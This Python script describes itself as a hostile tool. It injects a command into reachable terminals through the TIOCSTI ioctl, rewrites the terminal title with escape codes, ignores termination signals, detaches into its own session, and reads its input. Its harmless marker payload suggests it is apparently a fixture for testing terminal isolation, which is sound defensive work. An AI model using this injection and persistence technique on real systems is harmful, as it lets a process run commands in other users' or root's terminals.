#!/usr/bin/python3 -IS
"""A hostile tool of a user's: it types into each terminal that it reaches, writes to it, stays, and reads its input."""

import fcntl
import os
import signal
import sys
import termios
import time

TYPED = "touch /root/typed; echo TY''PED\n"
TITLE = b"\x1b]0;HOSTILE\x07"


def type_into(descriptor):
    for character in TYPED:
        fcntl.ioctl(descriptor, termios.TIOCSTI, character.encode())


def reach_terminals():
    for name in ("/dev/tty", "/dev/console", *(f"/proc/self/fd/{number}" for number in range(32))):
        try:
            descriptor = os.open(name, os.O_RDWR | os.O_NOCTTY)
            os.write(descriptor, TITLE if os.isatty(descriptor) else b"")
            type_into(descriptor)
            return
        except OSError:
            continue
    for descriptor in range(32):
        try:
            type_into(descriptor)
            return
        except OSError:
            continue


def stay():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    time.sleep(600)
    os._exit(0)


stay()
reach_terminals()
print("input", repr(sys.stdin.read()), sys.argv[1:], flush=True)
os.write(1, b"screen " + TITLE + b"\n")
os.write(2, b"errors " + TITLE + b"\n")
